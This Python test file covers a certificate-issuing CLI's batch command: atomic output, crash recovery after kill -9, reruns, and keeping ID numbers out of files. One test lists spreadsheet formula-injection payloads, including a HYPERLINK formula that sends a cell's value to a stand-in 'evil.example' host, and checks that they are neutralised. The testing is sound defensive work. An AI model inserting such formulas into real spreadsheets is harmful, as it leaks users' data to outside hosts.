"""`skk issue-batch`: a cohort file in, results.csv + QR SVGs + printable HTML out, all or nothing,
even when the process is killed with SIGKILL in the middle."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import select
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from verifier.cli import main
from verifier.printing import cohort_folder
from verifier.qr import render
from verifier.store.models import CredentialRecord

from .test_batch_api import (
    BAD_CELLS,
    BAD_NIKS,
    as_xlsx,
    bad_file,
    excel_indonesian,
    generated_cohort,
    sample_bytes,
    sample_niks,
)

PROJECT_ROOT = Path(__file__).resolve().parents[1]
RESULT_HEADER = ["line", "number", "name", "job", "level", "status", "url"]
INJECTIONS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"klik")',
    "+62 812 0000",
    "@SUM(1+1)",
    "-2+3",
]


@pytest.fixture
def skk(env: dict[str, str]):
    """Run `skk ARGS...` in-process with the test settings; returns the click Result."""
    runner = CliRunner()

    def run(*args: str) -> Result:
        return runner.invoke(main, list(args), env=env)

    return run


@pytest.fixture
def cohort_path(tmp_path: Path):
    """Write bytes to a cohort file under tmp_path and return its path."""

    def write(data: bytes, name: str = "peserta.csv") -> Path:
        path = tmp_path / name
        path.write_bytes(data)
        return path

    return write


def issue_batch(skk, path: Path, out: Path, *extra: str) -> Result:
    return skk("issue-batch", "--agency", "lsp-contoh", str(path), "--out", str(out), *extra)


def leftovers(out: Path) -> list[str]:
    """The output folder and any staging sibling of it."""
    return sorted(p.name for p in out.parent.iterdir() if p.name.lstrip(".").startswith(out.name))


def read_results(out: Path) -> list[list[str]]:
    """results.csv as Excel in Indonesian would split it (after checking its encoding bytes)."""
    raw = (out / "results.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM"
    text = raw[3:].decode("utf-8")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", ""), "CRLF only"
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("variant", ["plain", "excel", "xlsx"])
def test_sample_issues_and_writes_every_output(skk, contoh, cohort_path, tmp_path, variant):
    sample = sample_bytes()
    path = {
        "plain": lambda: cohort_path(sample),
        "excel": lambda: cohort_path(excel_indonesian(sample)),
        "xlsx": lambda: cohort_path(as_xlsx(sample), "peserta.xlsx"),
    }[variant]()
    out = tmp_path / "out"
    result = issue_batch(skk, path, out, "--json")
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    assert (summary["issued"], summary["existing"]) == (75, 0)
    assert list(summary["results"][0]) == [
        "line",
        "number",
        "name",
        "job",
        "level",
        "status",
        "verify_url",
    ]
    assert CredentialRecord.select().count() == 75
    assert leftovers(out) == ["out"]

    rows = read_results(out)
    assert rows[0] == RESULT_HEADER
    assert len(rows) == 76 and {row[5] for row in rows[1:]} == {"issued"}
    assert [row[6] for row in rows[1:]] == [r["verify_url"] for r in summary["results"]]
    numbers = [row[1] for row in rows[1:]]

    svgs = sorted((out / "qr").iterdir())
    assert len(svgs) == 75
    for row in rows[1:]:
        svg = (out / "qr" / cohort_folder.qr_file_name(row[1])).read_text()
        assert svg == render.qr_svg(row[6])  # the code encodes exactly the row's verify URL

    certificates = (out / "certificates-001.html").read_text()
    cards = (out / "cards-001.html").read_text()
    assert certificates.count('<section class="cert">') == 75
    assert cards.count('<article class="card">') == 75
    assert all(number in certificates and number in cards for number in numbers)
    assert "@page" in certificates and "@page" in cards  # print CSS
    everything = result.output + "".join(p.read_text() for p in out.rglob("*") if p.is_file())
    assert not any(nik in everything for nik in sample_niks())


def test_results_csv_neutralises_formula_injection(skk, contoh, cohort_path, tmp_path):
    lines = ["nama,nomor,kode_jabatan,jenjang"]
    lines += [
        f'"{name.replace(chr(34), chr(34) * 2)}",INJ {i},ME063100,3'
        for i, name in enumerate(INJECTIONS)
    ]
    out = tmp_path / "out"
    result = issue_batch(skk, cohort_path("\n".join(lines).encode()), out)
    assert result.exit_code == 0, result.output
    names = [row[2] for row in read_results(out)[1:]]
    assert names == ["'" + name for name in INJECTIONS]  # text in Excel, never a formula
    html = (out / "certificates-001.html").read_text()
    assert "=HYPERLINK(&#34;https://evil.example" in html or "=HYPERLINK(&quot;" in html


def test_rerun_issues_nothing_twice_and_writes_a_complete_folder(
    skk, contoh, cohort_path, tmp_path
):
    path = cohort_path(excel_indonesian(generated_cohort(12)))
    first = json.loads(issue_batch(skk, path, tmp_path / "a", "--json").stdout)
    again = issue_batch(skk, path, tmp_path / "b", "--json")
    assert again.exit_code == 0
    summary = json.loads(again.stdout)
    assert (summary["issued"], summary["existing"]) == (0, 12)
    assert summary["results"] == [{**r, "status": "existing"} for r in first["results"]]
    assert {row[5] for row in read_results(tmp_path / "b")[1:]} == {"existing"}
    assert len(list((tmp_path / "b" / "qr").iterdir())) == 12
    assert CredentialRecord.select().count() == 12


def test_bad_file_issues_nothing_and_writes_nothing(skk, contoh, cohort_path, tmp_path):
    out = tmp_path / "out"
    result = issue_batch(skk, cohort_path(bad_file()), out)
    assert result.exit_code == 1
    assert result.stdout == ""
    for line, column in BAD_CELLS:
        assert f"line {line}, {column}:" in result.stderr
    assert result.stderr.strip().splitlines()[-1].startswith("skk: ")
    assert CredentialRecord.select().count() == 0
    assert leftovers(out) == []
    assert not any(nik in result.output for nik in BAD_NIKS)

    as_json = issue_batch(skk, cohort_path(bad_file()), out, "--json")
    assert as_json.exit_code == 1
    errors = json.loads(as_json.stdout)["errors"]
    assert {(e["line"], e["column"]) for e in errors} == BAD_CELLS
    assert leftovers(out) == []


def test_a_cell_over_the_csv_field_limit_is_refused_naming_its_line(
    skk, contoh, cohort_path, tmp_path
):
    huge = "x" * 200 * 1024  # over the CSV reader's 128 KiB field limit: csv.Error before
    path = cohort_path(
        f'nama;nomor;kode_jabatan;jenjang\nRina;A-1;ME063100;3\n"{huge}";A-2;ME063100;3\n'.encode()
    )
    result = issue_batch(skk, path, tmp_path / "out")
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 1 and result.stdout == ""
    assert result.stderr.startswith(
        "skk: line 3: a cell is larger than 128 KiB: not a spreadsheet's CSV"
    ), result.stderr
    assert len(result.stderr.splitlines()) == 1 and CredentialRecord.select().count() == 0
    assert not (tmp_path / "out").exists()


def test_nonempty_out_folder_is_refused_before_anything(skk, contoh, cohort_path, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "old.txt").write_text("earlier run")
    result = issue_batch(skk, cohort_path(sample_bytes()), out)
    assert result.exit_code == 1
    assert "already exists" in result.stderr
    assert CredentialRecord.select().count() == 0
    assert [p.name for p in out.iterdir()] == ["old.txt"]


def test_no_progress_bar_when_not_a_terminal(skk, contoh, cohort_path, tmp_path):
    result = issue_batch(skk, cohort_path(generated_cohort(10)), tmp_path / "out")
    assert result.exit_code == 0
    assert result.stderr.startswith("skk: database ")  # only the database's name, no bar
    assert len(result.stderr.splitlines()) == 1
    assert result.stdout == f"10 issued, 0 existing; files in {tmp_path / 'out'}\n"


class Killed(BaseException):
    """Stands for SIGKILL: nothing after the raise point runs, and no handler catches it."""


def test_crash_between_commit_and_publish_is_repaired_by_running_again(
    skk, contoh, cohort_path, tmp_path, monkeypatch
):
    # The one window kill -9 can hit after the commit: credentials stored, folder not yet there.
    def die(files, out_dir):
        raise Killed

    path, out = cohort_path(generated_cohort(20)), tmp_path / "out"
    monkeypatch.setattr(cohort_folder, "publish", die)
    with pytest.raises(Killed):
        issue_batch(skk, path, out)
    assert CredentialRecord.select().count() == 20
    assert leftovers(out) == []
    monkeypatch.undo()
    # Running the same command again writes the whole folder from the stored credentials.
    again = issue_batch(skk, path, out)
    assert again.exit_code == 0, again.output
    assert again.stdout.startswith("0 issued, 20 existing")
    assert len(read_results(out)) == 21 and len(list((out / "qr").iterdir())) == 20
    assert CredentialRecord.select().count() == 20


# --- kill -9 while rendering, in a real process ------------------------------------------------

_PROGRESS = re.compile(rb"(\d+)/1500")


def _await_rendering(fd: int, process: subprocess.Popen, deadline: float) -> bytes:
    """Read the progress bar from the pty until at least one QR code has been rendered.

    The bar advances only from QR rendering, which runs after every row is checked and signed
    and before the database commit: a count above 0 means the process is inside that window.
    """
    seen = b""
    while time.monotonic() < deadline and process.poll() is None:
        ready, _, _ = select.select([fd], [], [], 0.2)
        if not ready:
            continue
        try:
            seen += os.read(fd, 4096)
        except OSError:  # EIO: the other end closed
            break
        if any(int(count) > 0 for count in _PROGRESS.findall(seen)):
            return seen
    raise AssertionError(f"no rendering progress seen; output so far: {seen[-300:]!r}")


def _group_members(pgid: int) -> list[int]:
    members = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[2]) == pgid and fields[0] != "Z":
            members.append(int(stat.parent.name))
    return members


@pytest.mark.system
@pytest.mark.skipif(not hasattr(os, "openpty"), reason="needs a pseudo-terminal (POSIX)")
def test_kill_9_while_rendering_leaves_nothing_issued(contoh, env, cohort_path, tmp_path):
    path, out = cohort_path(generated_cohort(1500)), tmp_path / "out"
    primary, secondary = os.openpty()  # stderr on a terminal, so the progress bar is drawn
    process = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "from verifier.cli import main; main()",
            "issue-batch",
            "--agency",
            "lsp-contoh",
            str(path),
            "--out",
            str(out),
        ],
        cwd=PROJECT_ROOT,
        env={**os.environ, **env, "COLUMNS": "120"},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=secondary,
        start_new_session=True,  # its own process group: we can see (and reap) its workers
    )
    os.close(secondary)
    try:
        seen = _await_rendering(primary, process, time.monotonic() + 45)
        assert process.poll() is None, "finished before it could be killed"
        assert re.search(rb"\d+/s", seen), "the bar shows the rate"
        os.kill(process.pid, signal.SIGKILL)
        assert process.wait(timeout=10) == -signal.SIGKILL
        assert CredentialRecord.select().count() == 0
        assert leftovers(out) == []
        # Render workers notice their parent is gone and exit: nothing keeps running.
        deadline = time.monotonic() + 10
        while _group_members(process.pid) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _group_members(process.pid) == []
    finally:
        os.close(primary)
        if process.poll() is None:
            process.kill()
            process.wait()
        for pid in _group_members(process.pid):  # only processes this test started
            os.kill(pid, signal.SIGKILL)


def test_an_output_folder_that_cannot_be_made_issues_nothing(skk, contoh, cohort_path, tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    result = issue_batch(skk, cohort_path(generated_cohort(5)), blocker / "out")
    assert result.exit_code == 2 and result.stdout == ""
    assert "nothing was issued" in result.stderr and "Traceback" not in result.output
    assert CredentialRecord.select().count() == 0
